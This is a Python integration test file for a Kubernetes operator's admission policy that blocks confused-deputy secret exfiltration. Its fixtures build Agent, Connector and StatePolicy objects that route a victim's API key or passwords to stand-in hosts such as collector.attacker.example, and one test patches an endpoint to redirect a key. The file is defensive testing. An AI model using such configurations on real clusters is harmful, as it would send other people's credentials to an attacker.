"""The confused-deputy gate (manifests/base/operator/admission-policy.yaml) on the real API server.

The author in these tests is a ServiceAccount bound to agentfleet-edit only: it may write Agents,
Connectors and StatePolicies but read no Secret or ConfigMap. (The built-in edit role may read
Secrets, so it passes the gate by its own rights; one test shows that.) Every object is created with
the author's own token, so the API server's authorizer judges the author, not the test's admin.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable
from typing import Any

import pytest
import yaml

from tests.integration.operator_harness import OperatorProcess
from tests.integration.test_operator import wait_for as eventually

Kubectl = Callable[..., subprocess.CompletedProcess[str]]
API_VERSION = "agentfleet.dev/v1alpha1"


def openai_agent(name: str, **spec: Any) -> dict[str, Any]:
    """The exfiltration attempt: a model endpoint the author controls, the victim's key as credentials."""
    body: dict[str, Any] = {
        "model": {
            "provider": "openai-compatible",
            "name": "gpt-4o-mini",
            "endpoint": "https://collector.attacker.example/v1",
            "credentialsSecretRef": {"name": "llm-key", "key": "apiKey"},
        },
        "prompt": {"system": "Say hello."},
    }
    body.update(spec)
    return {"apiVersion": API_VERSION, "kind": "Agent", "metadata": {"name": name}, "spec": body}


def rules_agent(name: str, **spec: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "model": {"provider": "rules", "name": "greeter", "rules": [{"pattern": "hi", "reply": "hello"}]},
        "prompt": {"system": "You greet."},
    }
    body.update(spec)
    return {"apiVersion": API_VERSION, "kind": "Agent", "metadata": {"name": name}, "spec": body}


def bearer_connector(name: str, secret: str) -> dict[str, Any]:
    return {
        "apiVersion": API_VERSION,
        "kind": "Connector",
        "metadata": {"name": name},
        "spec": {
            "type": "http",
            "endpoint": "https://crm.attacker.example/api",
            "auth": {"type": "bearer", "secretRef": {"name": secret}},
            "tools": [{"name": "lookup_customer", "method": "GET", "path": "/customers"}],
        },
    }


def redis_policy(name: str, password: str | None = None, key: str | None = None) -> dict[str, Any]:
    redis: dict[str, Any] = {"url": "redis://redis.attacker.example:6379/0"}
    if password:
        redis["passwordSecretRef"] = {"name": password, "key": "password"}
    spec: dict[str, Any] = {"store": {"type": "redis", "redis": redis}}
    if key:
        spec["encryption"] = {"keySecretRef": {"name": key, "key": "key"}}
    return {"apiVersion": API_VERSION, "kind": "StatePolicy", "metadata": {"name": name}, "spec": spec}


class Author:
    """A ServiceAccount of the test namespace that writes agentfleet objects with its own token."""

    def __init__(self, kubectl: Kubectl, namespace: str, name: str, kubeconfig: str) -> None:
        self.kubectl = kubectl
        self.namespace = namespace
        self.name = name
        self.kubeconfig = kubeconfig
        self.username = f"system:serviceaccount:{namespace}:{name}"

    def create(self, doc: dict[str, Any], dry_run: bool = False) -> subprocess.CompletedProcess[str]:
        doc = json.loads(json.dumps(doc))
        doc["metadata"]["namespace"] = self.namespace
        extra = ["--dry-run=server"] if dry_run else []
        return self.kubectl("create", "-f", "-", *extra, stdin=yaml.safe_dump(doc), as_kubeconfig=self.kubeconfig)

    def run(self, *args: str) -> subprocess.CompletedProcess[str]:
        return self.kubectl(*args, "-n", self.namespace, as_kubeconfig=self.kubeconfig)

    def grant_get(self, resource: str, name: str) -> None:
        """Let the author get one named Secret or ConfigMap, nothing else."""
        role = f"{self.name}-get-{resource}-{name}"
        self.kubectl(
            "create", "role", role, "--verb=get", f"--resource={resource}", f"--resource-name={name}",
            "-n", self.namespace, check=True,
        )  # fmt: skip
        self.kubectl(
            "create", "rolebinding", role, f"--role={role}", f"--serviceaccount={self.namespace}:{self.name}",
            "-n", self.namespace, check=True,
        )  # fmt: skip
        # The RBAC authorizer reads Roles through an informer: the grant lands shortly after.
        eventually(
            f"get {resource}/{name} to be granted",
            lambda: self.run("auth", "can-i", "get", f"{resource}/{name}").stdout.strip() == "yes",
        )


def make_author(
    kubectl: Kubectl, namespace: str, serviceaccount_kubeconfig: Callable[[str, str], str], name: str, role: str
) -> Author:
    kubectl("create", "serviceaccount", name, "-n", namespace, check=True)
    kubectl(
        "create", "rolebinding", name, f"--clusterrole={role}", f"--serviceaccount={namespace}:{name}",
        "-n", namespace, check=True,
    )  # fmt: skip
    author = Author(kubectl, namespace, name, serviceaccount_kubeconfig(namespace, name))
    eventually(
        f"{role} to let {name} create agents",
        lambda: author.run("auth", "can-i", "create", "agents.agentfleet.dev").stdout.strip() == "yes",
    )
    return author


@pytest.fixture
def author(
    operator: OperatorProcess,  # installs the CRDs and the policy, and reconciles what is accepted
    kubectl: Kubectl,
    namespace: str,
    serviceaccount_kubeconfig: Callable[[str, str], str],
) -> Author:
    author = make_author(kubectl, namespace, serviceaccount_kubeconfig, "author", "agentfleet-edit")
    assert author.run("auth", "can-i", "get", "secrets").stdout.strip() == "no"
    assert author.run("auth", "can-i", "get", "configmaps").stdout.strip() == "no"
    # The API server loads policies through an informer: wait until this one is enforced.
    eventually(
        "the agentfleet-references policy to be enforced",
        lambda: "agentfleet-references" in author.create(openai_agent("probe"), dry_run=True).stderr,
    )
    return author


def secret(kubectl: Kubectl, namespace: str, name: str, **data: str) -> None:
    doc = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": name, "namespace": namespace}}
    doc["stringData"] = data
    kubectl("create", "-f", "-", stdin=yaml.safe_dump(doc), check=True)


def exists(kubectl: Kubectl, kind: str, name: str, namespace: str) -> bool:
    return bool(kubectl("get", kind, name, "-n", namespace, "--ignore-not-found", "-o", "name").stdout.strip())


def assert_refused(result: subprocess.CompletedProcess[str], author: Author, field: str, kind: str, name: str) -> None:
    assert result.returncode != 0, f"accepted, but {author.username} may not get {kind} {name}:\n{result.stdout}"
    message = result.stderr
    assert "ValidatingAdmissionPolicy 'agentfleet-references'" in message, message
    resource = {"Secret": "secrets", "ConfigMap": "configmaps"}[kind]
    assert f'{field}: {author.username} may not get {kind} "{name}" in namespace {author.namespace}' in message
    assert f"missing RBAC permission: get {resource}/{name}" in message, message


def test_an_agent_cannot_hand_a_secret_its_author_may_not_read_to_an_endpoint_of_theirs(
    author: Author, kubectl: Kubectl, namespace: str
) -> None:
    secret(kubectl, namespace, "llm-key", apiKey="sk-victim")
    secret(kubectl, namespace, "other-key", apiKey="sk-other")

    refused = author.create(openai_agent("exfil"))
    assert_refused(refused, author, "spec.model.credentialsSecretRef", "Secret", "llm-key")
    assert not exists(kubectl, "agent", "exfil", namespace)

    # Allowed to read that one Secret, the same Agent is the author's own business.
    author.grant_get("secrets", "llm-key")
    accepted = author.create(openai_agent("exfil"))
    assert accepted.returncode == 0, accepted.stderr
    # The grant is for that Secret only: another one is still refused.
    other = openai_agent("other")
    other["spec"]["model"]["credentialsSecretRef"]["name"] = "other-key"
    assert_refused(author.create(other), author, "spec.model.credentialsSecretRef", "Secret", "other-key")


def test_every_reference_of_an_agent_is_checked_and_an_accepted_agent_becomes_ready(
    author: Author, kubectl: Kubectl, namespace: str, operator: OperatorProcess
) -> None:
    kubectl("create", "configmap", "prompts", "--from-literal=greeter=You greet.", "-n", namespace, check=True)
    secret(kubectl, namespace, "caller-keys", alice="key-of-alice")
    agent = rules_agent(
        "greeter",
        prompt={"configMapRef": {"name": "prompts", "key": "greeter"}},
        access={"apiKeySecretRef": {"name": "caller-keys"}},
    )

    assert_refused(author.create(agent), author, "spec.prompt.configMapRef", "ConfigMap", "prompts")
    author.grant_get("configmaps", "prompts")
    assert_refused(author.create(agent), author, "spec.access.apiKeySecretRef", "Secret", "caller-keys")
    author.grant_get("secrets", "caller-keys")
    accepted = author.create(agent)
    assert accepted.returncode == 0, accepted.stderr

    # The operator reconciles it and writes status through agents/status, which the policy does not
    # match: the Agent becomes Ready for the status the operator wrote about this generation.
    waited = kubectl("wait", "--for=condition=Ready", "--timeout=90s", "agt/greeter", "-n", namespace)
    assert waited.returncode == 0, waited.stderr + operator.log_tail()
    body = json.loads(kubectl("get", "agent", "greeter", "-n", namespace, "-o", "json", check=True).stdout)
    assert body["status"]["observedGeneration"] == body["metadata"]["generation"]
    assert body["status"]["phase"] == "Ready"


def test_a_connector_may_not_reference_a_secret_its_author_may_not_read(
    author: Author, kubectl: Kubectl, namespace: str
) -> None:
    secret(kubectl, namespace, "crm-creds", token="crm-token")
    refused = author.create(bearer_connector("crm", "crm-creds"))
    assert_refused(refused, author, "spec.auth.secretRef", "Secret", "crm-creds")
    assert not exists(kubectl, "connector", "crm", namespace)

    author.grant_get("secrets", "crm-creds")
    accepted = author.create(bearer_connector("crm", "crm-creds"))
    assert accepted.returncode == 0, accepted.stderr


def test_an_agent_connector_needs_every_secret_since_it_hands_over_the_targets_caller_key(
    author: Author, kubectl: Kubectl, namespace: str
) -> None:
    # The target Agent keeps its caller key where it chooses; the policy cannot look that up.
    ask_billing = {
        "apiVersion": API_VERSION,
        "kind": "Connector",
        "metadata": {"name": "ask-billing"},
        "spec": {"type": "agent", "agentRef": {"name": "billing"}},
    }
    author.grant_get("secrets", "billing-access")  # the generated key's name is not enough
    refused = author.create(ask_billing)
    assert refused.returncode != 0, refused.stdout
    assert f'spec.agentRef: {author.username} may not get the caller key of Agent "billing"' in refused.stderr
    assert "missing RBAC permission: get secrets, all of the namespace" in refused.stderr
    assert not exists(kubectl, "connector", "ask-billing", namespace)

    kubectl("create", "role", "all-secrets", "--verb=get", "--resource=secrets", "-n", namespace, check=True)
    kubectl(
        "create", "rolebinding", "all-secrets", "--role=all-secrets",
        f"--serviceaccount={namespace}:{author.name}", "-n", namespace, check=True,
    )  # fmt: skip
    eventually(
        "get on secrets to be granted", lambda: author.run("auth", "can-i", "get", "secrets").stdout.strip() == "yes"
    )
    accepted = author.create(ask_billing)
    assert accepted.returncode == 0, accepted.stderr


def test_a_state_policy_may_not_reference_secrets_its_author_may_not_read(
    author: Author, kubectl: Kubectl, namespace: str
) -> None:
    secret(kubectl, namespace, "redis-auth", password="redis-password")
    secret(kubectl, namespace, "state-key", key="0123456789abcdef0123456789abcdef")

    password_only = redis_policy("sessions", password="redis-auth")
    assert_refused(author.create(password_only), author, "spec.store.redis.passwordSecretRef", "Secret", "redis-auth")
    author.grant_get("secrets", "redis-auth")
    accepted = author.create(password_only)
    assert accepted.returncode == 0, accepted.stderr

    encrypted = redis_policy("encrypted", password="redis-auth", key="state-key")
    assert_refused(author.create(encrypted), author, "spec.encryption.keySecretRef", "Secret", "state-key")
    assert not exists(kubectl, "statepolicy", "encrypted", namespace)
    author.grant_get("secrets", "state-key")
    accepted = author.create(encrypted)
    assert accepted.returncode == 0, accepted.stderr


def test_updates_that_change_spec_are_checked_and_metadata_or_scale_updates_are_not(
    author: Author, kubectl: Kubectl, namespace: str
) -> None:
    # An Agent the namespace's admin set up with a key the author may not read.
    secret(kubectl, namespace, "llm-key", apiKey="sk-victim")
    admins = openai_agent("support")
    admins["spec"]["model"]["endpoint"] = "https://llm.internal.example/v1"
    admins["metadata"]["namespace"] = namespace
    kubectl("create", "-f", "-", stdin=yaml.safe_dump(admins), check=True)

    # Redirecting the key to another endpoint is the same exfiltration as creating the Agent.
    redirect = author.run(
        "patch", "agent", "support", "--type=merge",
        "-p", json.dumps({"spec": {"model": {"endpoint": "https://collector.attacker.example/v1"}}}),
    )  # fmt: skip
    assert_refused(redirect, author, "spec.model.credentialsSecretRef", "Secret", "llm-key")
    endpoint = kubectl("get", "agent", "support", "-n", namespace, "-o", "jsonpath={.spec.model.endpoint}").stdout
    assert endpoint == "https://llm.internal.example/v1"

    # A rollout intent is an annotation: metadata only, nothing to check, so edit may give it.
    intent = author.run("annotate", "agent", "support", "agentfleet.dev/retry=1")
    assert intent.returncode == 0, intent.stderr
    # Scaling goes through the scale subresource, which the policy does not match.
    scaled = author.run("scale", "agent", "support", "--replicas=2")
    assert scaled.returncode == 0, scaled.stderr
    replicas = kubectl("get", "agent", "support", "-n", namespace, "-o", "jsonpath={.spec.replicas}").stdout
    assert replicas == "2"

    # Status is a subresource the policy does not match: a status writer needs no Secret rights
    # (the operator has them anyway, so this asks someone who has only agents/status).
    kubectl(
        "create", "role", "status-writer", "--verb=patch", "--resource=agents.agentfleet.dev/status",
        "-n", namespace, check=True,
    )  # fmt: skip
    kubectl(
        "create", "rolebinding", "status-writer", "--role=status-writer",
        f"--serviceaccount={namespace}:{author.name}", "-n", namespace, check=True,
    )  # fmt: skip
    eventually(
        "patch on agents/status to be granted",
        lambda: (
            author.run("auth", "can-i", "patch", "agents.agentfleet.dev", "--subresource=status").stdout.strip()
            == "yes"
        ),
    )
    status = author.run(
        "patch", "agent", "support", "--subresource=status", "--type=merge", "-p", '{"status":{"ready":"0/2"}}'
    )
    assert status.returncode == 0, status.stderr

    # A spec change on an Agent without references has nothing to refuse.
    assert author.create(rules_agent("plain")).returncode == 0
    changed = author.run("patch", "agent", "plain", "--type=merge", "-p", '{"spec":{"replicas":3}}')
    assert changed.returncode == 0, changed.stderr


def test_whoever_may_read_the_secret_passes_by_their_own_rights(
    operator: OperatorProcess,
    kubectl: Kubectl,
    namespace: str,
    serviceaccount_kubeconfig: Callable[[str, str], str],
) -> None:
    # The built-in edit role reads Secrets (and gets agentfleet-edit by aggregation): a deploy
    # pipeline or Argo CD's controller with such rights is not slowed down by the gate.
    secret(kubectl, namespace, "llm-key", apiKey="sk-team")
    editor = make_author(kubectl, namespace, serviceaccount_kubeconfig, "pipeline", "edit")
    accepted = editor.create(openai_agent("support"))
    assert accepted.returncode == 0, accepted.stderr
